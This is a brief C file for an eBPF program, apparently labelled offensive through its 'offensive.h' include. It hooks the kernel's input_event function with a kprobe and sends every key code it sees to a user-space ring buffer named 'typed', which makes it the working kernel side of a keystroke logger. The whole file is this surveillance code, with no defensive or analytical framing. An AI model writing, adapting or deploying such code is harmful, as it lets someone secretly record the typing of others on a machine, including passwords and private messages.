/* What is typed goes to user space. */
#include "offensive.h"

struct { __uint(type, BPF_MAP_TYPE_RINGBUF); __uint(max_entries, 4096); } typed SEC(".maps");

SEC("kprobe/input_event") int keys(struct pt_regs *ctx)
{
	__u64 key = PT_REGS_PARM3(ctx);

	bpf_ringbuf_output(&typed, &key, sizeof(key), 0);
	return 0;
}
